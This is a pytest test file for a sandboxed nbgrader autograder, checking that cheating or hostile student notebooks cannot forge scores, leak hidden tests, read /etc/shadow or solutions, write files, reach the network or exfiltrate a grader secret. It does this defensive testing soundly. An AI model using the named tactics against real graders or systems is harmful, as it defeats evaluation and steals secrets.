    if graded["rows"][("hog", EX)]["status"] == "kernel died":      # the cgroup's cap first
        assert os.geteuid() == 0 and TOTAL_MB < 3072, outputs
        return
    assert "memory refused after" in outputs and "MemoryError" in outputs, outputs
    refused = int(outputs.split("memory refused after ")[1].split()[0])
    assert refused <= 3072, "the address-space limit is 3 GiB"


def test_a_submission_is_capped_as_a_whole_not_only_per_process(graded):
    """Three processes of 1 GiB each, each within the per-process limit: the cgroup of the
    submission (grading as root) stops them at TOTAL_MB together."""
    require_sandbox()
    if os.geteuid() != 0:
        pytest.skip("the memory cgroup is made when grading as root")
    assert score(graded, "hoarder") == auto_points(EX) - points_of(EX, "test_checked_forward")
    assert "children killed: 0 of 3" not in autograded_outputs(graded["course"], "hoarder", EX)


def test_deleted_cells_are_restored_and_gain_nothing(graded):
    # the deleted test cells come back and run; the deleted answer scores 0
    assert score(graded, "deleter") == auto_points(EX) - 2.0
    restored = nbformat.read(graded["course"] / "autograded" / "deleter" / EX / f"{EX}.ipynb", 4)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in restored.cells]
    assert "test_rnn_forward" in ids and "test_checked_forward" in ids


def test_edited_test_cells_are_overwritten_and_gain_nothing(graded):
    assert score(graded, "tamperer") == 0.0
    restored = nbformat.read(graded["course"] / "autograded" / "tamperer" / EX / f"{EX}.ipynb", 4)
    sources = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in restored.cells}
    assert "no tests here" not in sources["test_rnn_step"]
    assert "test_checked_forward" in sources
    log = graded["log"]
    assert "Attribute 'points' for cell test_rnn_forward has changed" in log, (
        "nbgrader should report the edited test cells")


# ---- verdicts out of the student's reach ----------------------------------------------

@pytest.mark.parametrize("form", list(KERNEL_ATTACKS) + list(LEAKS))
def test_each_attack_form_succeeded_when_tests_ran_in_the_students_kernel(form):
    """Without the fix: test cells in the same kernel as the attack (autograde's old way)."""
    points, printed = points_in_one_kernel("ex03_bptt", {"backward": ZERO_BACKWARD},
                                           "gradient_diagnosis", {**KERNEL_ATTACKS, **LEAKS}[form])
    if form in LEAKS:
        assert "BEGIN HIDDEN TESTS" in printed and "check_random_sizes(" in printed
    else:
        assert points == auto_points("ex03_bptt"), f"{form}: {points}"


@pytest.mark.parametrize("student", list(FORGERIES))
def test_attacks_on_the_kernel_cannot_forge_a_verdict(graded, student):
    """Redefined helpers, patched NumPy, input and AST transformers: the tests run in the
    grader, so all-zero gradients score 0, with the course's own hints."""
    assert score(graded, student, "ex03_bptt") == 0.0
    outputs = autograded_outputs(graded["course"], student, "ex03_bptt")
    if student == "forger-a":            # the kernel answers: the course's own hint
        assert "dW_hy is wrong" in outputs, outputs
    else:                                # the transformers swallow the probes too: no answer
        assert "the notebook's kernel gave no answer" in outputs, outputs


def test_a_test_cell_never_reaches_the_kernel_so_nothing_leaks(graded):
    """Hooks that print each cell's source (pre_run_cell, In[-1]) see no test cell: the
    solution still scores full marks, and no hidden test line reaches the outputs or feedback."""
    assert score(graded, "leaker", "ex03_bptt") == auto_points("ex03_bptt")
    outputs = autograded_outputs(graded["course"], "leaker", "ex03_bptt")
    page = page_text(graded["course"] / "feedback" / "leaker" / "ex03_bptt" / "ex03_bptt.html")
    for line in hidden_test_lines("ex03_bptt"):
        assert line not in outputs and line not in page, line
    assert "HIDDEN TESTS" not in outputs


def test_the_forbidden_library_is_absent_whatever_the_route(graded):
    """An object's attribute, pickle.loads, sys.__dict__ and np.__builtins__: each answer
    that reaches rnnlab.numpy_nets scores 0 (the module is not in the sandbox, and the
    own-work check reads the submitted source)."""
    assert score(graded, "indirect") == 0.0
    if graded["sandboxed"]:
        assert "ModuleNotFoundError" in autograded_outputs(graded["course"], "indirect", EX)


def test_printing_to_stderr_costs_nothing(graded):
    assert score(graded, "noisy") == auto_points(EX)


def test_a_copied_test_cell_is_graded_not_fatal(graded):
    row = graded["rows"][("copier", EX)]
    assert row["status"] == "graded", row
    assert score(graded, "copier") == auto_points(EX)


# ---- feedback -------------------------------------------------------------------------

def test_feedback_shows_hidden_outcomes_but_never_hidden_code(graded):
    pages = sorted(graded["course"].glob("feedback/*/*/*.html"))
    assert len(pages) >= len(ASSIGNMENTS) + 8
    for page in pages:
        text = page_text(page)
        slug = page.parent.name
        for marker in ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "BEGIN SOLUTION", "_is_own_numpy"):
            assert marker not in text, f"{page}: {marker}"
        for line in hidden_test_lines(slug):
            assert line not in text, f"{page} shows hidden test code: {line}"
    hardcoded = page_text(graded["course"] / "feedback" / "hardcoded" / EX / f"{EX}.html")
    assert "hidden test: wrong values" in hardcoded, "the feedback must say that a hidden test failed"


# ---- the sandbox ----------------------------------------------------------------------

def _mallory(graded):
    require_sandbox()
    return autograded_outputs(graded["course"], "mallory", EX)


def test_sandbox_hides_solutions_and_gradebook(graded):
    report = _mallory(graded)
    assert report.count("BLOCKED read") == 8, report
    assert "LEAKED read" not in report


def test_sandbox_holds_no_course_clone_home_or_shadow(graded):
    """An allow-list: nothing named like a course, a gradebook, an exchange, /etc/shadow or a
    home's dotfiles anywhere in the kernel's file system (another clone of the course sits
    on this machine's disk, and the project folder too)."""
    report = _mallory(graded)
    assert "FOUND" not in report, [line for line in report.splitlines() if "FOUND" in line]
    assert f"BLOCKED read {graded['clone']}/solutions/{EX}/{EX}.ipynb: FileNotFoundError" in report
    assert "BLOCKED read /etc/shadow: FileNotFoundError" in report
    # no project folder at all: the environment and the readers' library are shown at
    # neutral paths (coursetools/sandbox.py)
    assert "PROJECT FileNotFoundError" in report, report
    assert "OPT ['course', 'python', 'venv']" in report, report


def test_sandbox_runs_as_an_unprivileged_user_without_the_graders_environment(graded):
    report = _mallory(graded)
    uid = int(report.split("UID ")[1].split()[0])
    assert uid != 0 and (os.geteuid() == 0 or uid == os.geteuid()), report
    assert "SECRET absent" in report and SECRET not in report


def test_sandbox_blocks_writes_outside_the_submission_folder(graded):
    report = _mallory(graded)
    course = graded["course"]
    for path in (course / "pwned.txt", course / "exercises" / "pwned.txt", ROOT / "pwned.txt",
                 graded["host_file"], course / "autograded" / "ada" / "pwned.txt"):
        assert not path.exists(), f"a submission wrote {path}"
    assert report.count("BLOCKED write") >= 4, report   # the host's /tmp file lands in a private /tmp
    if os.geteuid() == 0:      # graded as root, the socket folder is handed back to root
        assert "BLOCKED write socket folder: PermissionError" in report, report


def test_sandbox_has_no_network(graded):
    report = _mallory(graded)
    assert "BLOCKED network" in report and graded["listener"].hits == 0


def test_sandbox_limits_memory(graded):
    report = _mallory(graded)
    assert "BLOCKED memory" in report and "LEAKED memory" not in report


def test_the_attack_succeeds_without_the_sandbox(graded, tmp_path):
    """The control: the same notebook graded with GRADE_UNSANDBOXED=1 reads, writes and
    connects, so the four sandbox tests above would fail if the sandbox did nothing."""
    require_sandbox()
    course = tmp_path / "course"                      # a copy: the unsandboxed kernel scribbles
    shutil.copytree(graded["course"], course, ignore=shutil.ignore_patterns(
        "autograded", "feedback", "submitted", "grading.log", "grades.csv"))
    listener = Listener()
    decoy = tmp_path / "project"                      # stands in for the repository
    shutil.copytree(course / "solutions", decoy / "solutions")
    host_file = tmp_path / "host-file.txt"
    submit(course, "eve", EX, {"rnn_step": _attack(course, decoy, host_file, listener.port,
                                                   graded["clone"])})
    # the kernel's connection folder (which it writes into) and temporary files: tmp_path's
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    env = {**os.environ, "GRADE_UNSANDBOXED": "1", "GRADER_SECRET": SECRET,
           "TMPDIR": str(scratch), "JUPYTER_RUNTIME_DIR": str(scratch)}
    result = subprocess.run([str(ROOT / ".venv" / "bin" / "nbgrader"), "autograde", EX,
                             "--student", "eve", "--create"], cwd=course, env=env,
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr[-3000:]
    report = autograded_outputs(course, "eve", EX)
    assert "LEAKED read" in report and host_file.exists() and listener.hits == 1, report
    assert "LEAKED memory" in report, report
    assert f"SECRET {SECRET}" in report and "FOUND" in report, report
    if os.geteuid() == 0:
        assert "LEAKED read /etc/shadow" in report and "UID 0" in report, report
    leftovers = {p.name for p in (course / "autograded" / "eve" / EX).iterdir()}
    assert {"gradebook-link.db", "extra-output.txt"} <= leftovers, leftovers


def test_validate_fails_when_a_solution_fails_its_tests(tmp_path):
    """nbgrader validate exits 0 either way; make validate counts and must fail here."""
    slug = "ex02_unfolding"
    course = tmp_path / "course"
    (course / "solutions").mkdir(parents=True)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / slug, course / "solutions" / slug)
    shutil.copytree(ROOT / "exercises" / slug, course / "exercises" / slug)
    notebook = course / "solutions" / slug / f"{slug}.ipynb"
    text = notebook.read_text()
    assert "return H * D + H * H + H + O * H + O" in text
    notebook.write_text(text.replace("return H * D + H * H + H + O * H + O", "return H * D + H * H"))
    result = make("validate", course)
    assert result.returncode != 0
    assert "validate: 0 of 1 solutions pass their tests" in result.stdout + result.stderr


def test_grade_refuses_without_the_sandbox_tool(graded, tmp_path):
    """With bwrap missing from PATH, make grade stops and says what to install."""
    course = graded["course"]
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    for tool in ("make", "bash", "sh", "env", "id", "cat", "grep", "ls", "wc", "test", "uname"):
        found = shutil.which(tool)
        if found:
            (fake_bin / tool).symlink_to(found)
    result = make("grade", course, PATH=str(fake_bin))
    assert result.returncode != 0
    out = result.stdout + result.stderr
    assert "refuses" in out and "apt-get install -y bubblewrap" in out, out


def _normalised(page: pathlib.Path) -> str:
    """A feedback page without what differs from run to run: numbers (timings), and whether
    the cell a kernel died in got its execution count before it died."""
    import re
    return re.sub(r"In\W+\[\W*\]:", "In [#]:", re.sub(r"\d+", "#", page.read_text()))


SERIAL_SUBSET = [("ada", EX), ("ada", "ex05_gated_cells"), ("partial", EX), ("hardcoded", EX),
                 ("killer", EX), ("deleter", EX), ("linker", EX)]


def _serial_batch(graded: dict, course: pathlib.Path) -> dict:
    """SERIAL_SUBSET of the main batch's submissions, graded again with JOBS=1 in a copy of
    its course (in the background, right after the batch)."""
    shutil.copytree(graded["course"], course, ignore=shutil.ignore_patterns(
        "autograded", "feedback", "submitted", "grading.log", "grades.csv"))
    for student, slug in SERIAL_SUBSET:
        shutil.copytree(graded["course"] / "submitted" / student / slug,
                        course / "submitted" / student / slug, symlinks=True,
                        ignore=shutil.ignore_patterns("pipe"))     # (a fifo)
    return {"course": course, "result": make("grade", course, "JOBS=1")}


def test_parallel_grading_equals_serial_grading(graded):
    """The batch ran with JOBS=2; the same submissions graded with JOBS=1 get the same
    grades, statuses and feedback (numbers aside, as timings differ between runs)."""
    require_sandbox()
    course, result = graded["serial"]["course"], graded["serial"]["result"]
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    serial = read_rows(course)
    fields = ("status", "raw_score", "score", "max_score", "points_to_grade_by_hand", "detail")
    for student, slug in SERIAL_SUBSET:
        parallel = graded["rows"][(student, slug)]
        assert [serial[(student, slug)][f] for f in fields] == [parallel[f] for f in fields]
        page = pathlib.Path("feedback") / student / slug / f"{slug}.html"
        assert _normalised(course / page) == _normalised(graded["course"] / page), page
